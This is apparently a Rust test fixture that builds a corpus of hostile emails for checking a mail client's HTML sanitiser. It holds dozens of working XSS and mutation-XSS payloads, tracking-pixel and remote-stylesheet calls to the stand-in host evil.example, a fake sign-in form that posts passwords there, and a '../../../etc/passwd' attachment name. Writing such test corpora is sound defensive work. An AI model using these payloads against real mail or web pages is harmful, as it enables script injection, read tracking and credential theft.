//! Mails: plain ones, and ones that want to run something in the reader's browser or to learn that they are read.
//!
//! `RUN` stands for a script that leaves its mark wherever it runs, `HOST` for a stranger's host.

/// What a hostile script would do: mark the window and the title, and call home.
const RUN: &str = "top.ran=1;window.ran=1;document.title=`ran`;new Image().src=`http://evil.example/ran`";
const HOST: &str = "evil.example";

/// One hostile mail.
pub(crate) struct Letter {
    /// What it tries.
    pub(crate) tries: String,
    pub(crate) mail: String,
}

/// A plain text mail.
pub(crate) fn plain(name: &str, address: &str, subject: &str) -> String {
    let head = head(name, address, subject);
    format!("{head}Content-Type: text/plain; charset=utf-8\r\n\r\nHello,\r\n\r\n{subject}. Can you help?\r\n")
}

/// A mail of HTML alone.
pub(crate) fn html(subject: &str, body: &str) -> String {
    let head = head("Mal Ory", "mal@ory.example", subject);
    format!("{head}Content-Type: text/html; charset=utf-8\r\n\r\n{}\r\n", armed(body))
}

/// The whole corpus.
pub(crate) fn hostile() -> Vec<Letter> {
    let bodies = SCRIPTS.iter().chain(MUTATIONS).chain(CALLS_HOME).chain(TRAPS);
    let bodies = bodies.map(|(tries, body)| Letter { tries: (*tries).to_owned(), mail: html(tries, body) });
    bodies.chain(heads()).chain(attached()).collect()
}

fn armed(text: &str) -> String {
    text.replace("RUN", RUN).replace("HOST", HOST)
}

fn head(name: &str, address: &str, subject: &str) -> String {
    let key = &store::random::token()[..20];
    format!(
        "From: {name} <{address}>\r\nTo: Care <care@kettleandcrumb.example>\r\nSubject: {subject}\r\n\
         Message-ID: <{key}@ory.example>\r\nDate: Mon, 2 Mar 2026 09:00:00 +0000\r\nMIME-Version: 1.0\r\n"
    )
}

/// Script by every door that elements have.
const SCRIPTS: &[(&str, &str)] = &[
    ("a script", "<p>Hi<script>RUN</script><script src=//HOST/x.js></script>"),
    (
        "a handler",
        "<img src=x onerror=\"RUN\"><body onload=\"RUN\"><details open ontoggle=\"RUN\"><summary>x",
    ),
    ("a handler without spaces", "<img/src=\"x\"/onerror=\"RUN\"><svg/onload=\"RUN\">"),
    (
        "a handler that needs no hand",
        "<input autofocus onfocus=\"RUN\"><video><source onerror=\"RUN\"></video>",
    ),
    (
        "a style that animates",
        "<style>@keyframes k{}</style><b style=\"animation:k 1s\" onanimationstart=\"RUN\">x</b>",
    ),
    (
        "a link that is a script",
        "<a href=\"javascript:RUN\" id=lure>x</a><a href=\"jav&#9;ascript:RUN\">x</a>",
    ),
    ("a frame", "<iframe src=\"javascript:RUN\"></iframe><iframe srcdoc=\"<script>RUN</script>\"></iframe>"),
    (
        "an object",
        "<object data=\"data:text/html,<script>RUN</script>\"></object><embed src=\"javascript:RUN\">",
    ),
    ("a drawing", "<svg><script>RUN</script><animate onbegin=\"RUN\" attributeName=x dur=1s /></svg>"),
    ("a drawing that uses", "<svg><use href=\"data:image/svg+xml,<svg id=x onload='RUN'/>#x\"/></svg>"),
    ("a foreign object", "<svg><foreignObject><img src=x onerror=\"RUN\"></foreignObject></svg>"),
    (
        "an expression",
        "<div style=\"width:expression(RUN);behavior:url(//HOST/x.htc);-moz-binding:url(//HOST/x)\">x",
    ),
    (
        "an image that is a page",
        "<img src=\"data:text/html,<script>RUN</script>\"><img src=\"data:image/svg+xml,<svg onload='RUN'/>\">",
    ),
    (
        "a portal and a popover",
        "<portal src=//HOST></portal><button popovertarget=x onclick=\"RUN\">x</button><div popover id=x onbeforetoggle=\"RUN\">",
    ),
];

/// Markup that only turns into a script when a parser has gone over it twice.
const MUTATIONS: &[(&str, &str)] = &[
    ("a style inside a drawing", "<svg></p><style><a id=\"</style><img src=1 onerror='RUN'>\">"),
    (
        "a glyph in a table",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror='RUN'&gt;\">",
    ),
    ("a form in a form", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=\"RUN\">"),
    ("a paragraph in noscript", "<noscript><p title=\"</noscript><img src=x onerror='RUN'>\">"),
    ("a title in a title", "<svg><title><p title=\"</title></svg><img src=x onerror='RUN'>\">"),
    (
        "text that is none",
        "<textarea><p title=\"</textarea><img src=x onerror='RUN'>\"><xmp><p id=\"</xmp><img src=x onerror='RUN'>\">",
    ),
    (
        "a comment that ends early",
        "<!--><img src=x onerror=\"RUN\">--><!-- --!><img src=x onerror=\"RUN\">-->",
    ),
    (
        "a section of another language",
        "<svg><![CDATA[><img src=x onerror=\"RUN\">]]></svg><![CDATA[<img src=x onerror=\"RUN\">]]>",
    ),
    (
        "an annotation",
        "<math><annotation-xml encoding=\"text/html\"><p><img src=x onerror=\"RUN\"></annotation-xml></math>",
    ),
    (
        "a template",
        "<template><img src=x onerror=\"RUN\"></template><div><template shadowrootmode=open><img src=x onerror=\"RUN\"></template></div>",
    ),
    (
        "a deep nest",
        "<table><caption><svg><desc><select><option><style></select><img src=x onerror='RUN'></style>",
    ),
    (
        "broken quotes",
        "<img src='x\"'onerror=\"RUN\"'><a title='\"><img src=x onerror=\"RUN\">'>x</a><img alt=\"`><img src=x onerror='RUN'>`\">",
    ),
    ("plain text without an end", "<plaintext></plaintext><img src=x onerror=\"RUN\">"),
    ("noughts in names", "<scr\u{0}ipt>RUN</scr\u{0}ipt><img src=x on\u{0}error=\"RUN\">"),
];

/// Requests that would tell a stranger that the mail is read.
const CALLS_HOME: &[(&str, &str)] = &[
    (
        "an image",
        "<img src=http://HOST/a.png><img src=//HOST/b.png><img src=\"\\\\HOST/c.png\"><img src=\"/\t/HOST/d.png\">",
    ),
    (
        "a set of images",
        "<img srcset=\"http://HOST/a.png 1x, //HOST/b.png 2x\"><picture><source srcset=//HOST/c.png><img></picture>",
    ),
    (
        "a background",
        "<table background=//HOST/a.png><td background=http://HOST/b.png></table><body background=//HOST/c.png>",
    ),
    (
        "a style",
        "<div style=\"background:url(//HOST/a.png)\">x</div><div style=\"background:u\\72l(//HOST/b);list-style:image-set('//HOST/c' 1x)\">x",
    ),
    (
        "a sheet",
        "<style>@import '//HOST/a.css';@font-face{font-family:x;src:url(//HOST/f)}b{font:9px x;content:url(//HOST/b)}</style><b>x</b>",
    ),
    (
        "a film",
        "<video poster=//HOST/a.png src=//HOST/a.mp4 autoplay></video><audio src=//HOST/a.ogg autoplay></audio><track src=//HOST/a>",
    ),
    (
        "a link ahead of time",
        "<link rel=preload as=image href=//HOST/a><link rel=prefetch href=//HOST/b><link rel=stylesheet href=//HOST/c><link rel=dns-prefetch href=//HOST>",
    ),
    (
        "a part that is none",
        "<img src=\"cid:http://HOST/a.png\"><img src=\"cid://HOST/b.png\"><img src=\"cid:../../me\"><img src=\"cid:%2f%2fHOST/c\">",
    ),
    (
        "a drawing's image",
        "<svg><image href=//HOST/a.png /><image xlink:href=http://HOST/b.png /><feImage href=//HOST/c /></svg>",
    ),
    (
        "an old way",
        "<input type=image src=//HOST/a><bgsound src=//HOST/b><img lowsrc=//HOST/c dynsrc=//HOST/d><img longdesc=//HOST/e>",
    ),
];

/// Leading the reader away, or our page astray.
const TRAPS: &[(&str, &str)] = &[
    (
        "another place",
        "<meta http-equiv=refresh content=\"0;url=http://HOST/\"><base href=http://HOST/><a href=me>x</a>",
    ),
    (
        "a policy of its own",
        "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src=//HOST/a.png>",
    ),
    (
        "a form",
        "<form action=http://HOST/ id=f><input name=password><button autofocus>Sign in</button></form><button form=f formaction=http://HOST/>x",
    ),
    (
        "names of ours",
        "<a id=composer name=htmx>x</a><form name=document id=timeline></form><img name=currentScript id=toasts>",
    ),
    (
        "behavior of ours",
        "<a hx-get=\"/sign-out\" hx-trigger=load data-act=x data-key=r href=#>x</a><p hx-on:load=\"RUN\">x</p>",
    ),
    (
        "a cover",
        "<div style=\"position:fixed;inset:0;z-index:99999;background:red\">Session over</div><dialog open>Sign in</dialog>",
    ),
];

/// Names, subjects and addresses that are markup.
fn heads() -> Vec<Letter> {
    let name = armed("\"<img src=x onerror='RUN'>\"");
    let subject = armed("<img src=x onerror=\"RUN\"></h1><script>RUN</script>{{7*7}}");
    let encoded = "=?utf-8?B?PHN2Zy9vbmxvYWQ9InRvcC5yYW49MTtkb2N1bWVudC50aXRsZT0ncmFuJyI+?=";
    [
        ("markup as a name", plain(&name, "mal@ory.example", "A name")),
        ("markup as a subject", plain("Mal Ory", "mal@ory.example", &subject)),
        ("encoded markup", plain(encoded, "mal@ory.example", encoded)),
        ("markup as an address", plain("Mal", "\"<img/src=x/onerror=top.ran=1>\"@ory.example", "An address")),
        (
            "a link in text",
            plain(
                "Mal",
                "mal@ory.example",
                "javascript:top.ran=1 http://evil.example/\"onmouseover=top.ran=1",
            ),
        ),
    ]
    .into_iter()
    .map(|(tries, mail)| Letter { tries: tries.to_owned(), mail })
    .collect()
}

/// Files that are pages.
fn attached() -> Vec<Letter> {
    let drawing = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"RUN\"><script>RUN</script></svg>";
    let page = "<!doctype html><script>RUN</script><img src=http://HOST/a.png>";
    [
        ("a drawing as a picture", "image/svg+xml", "logo.svg", drawing),
        ("a page as a picture", "image/png", "photo.png", page),
        ("a page as a page", "text/html", "invoice.html", page),
        ("markup as a file name", "application/pdf", "<img src=x onerror=top.ran=1>.pdf", "%PDF-1.4"),
        ("a way out as a file name", "text/plain", "../../../etc/passwd", "text"),
    ]
    .into_iter()
    .map(|(tries, kind, name, content)| Letter {
        tries: tries.to_owned(),
        mail: with_file(tries, kind, name, &armed(content)),
    })
    .collect()
}

fn with_file(subject: &str, kind: &str, name: &str, content: &str) -> String {
    let head = head("Mal Ory", "mal@ory.example", subject);
    format!(
        "{head}Content-Type: multipart/mixed; boundary=cut\r\n\r\n--cut\r\nContent-Type: text/html\r\n\r\n\
         <p>See <img src=\"cid:file\"></p>\r\n--cut\r\nContent-Type: {kind}; name=\"{name}\"\r\n\
         Content-Disposition: attachment; filename=\"{name}\"\r\nContent-ID: <file>\r\n\r\n{content}\r\n--cut--\r\n"
    )
}
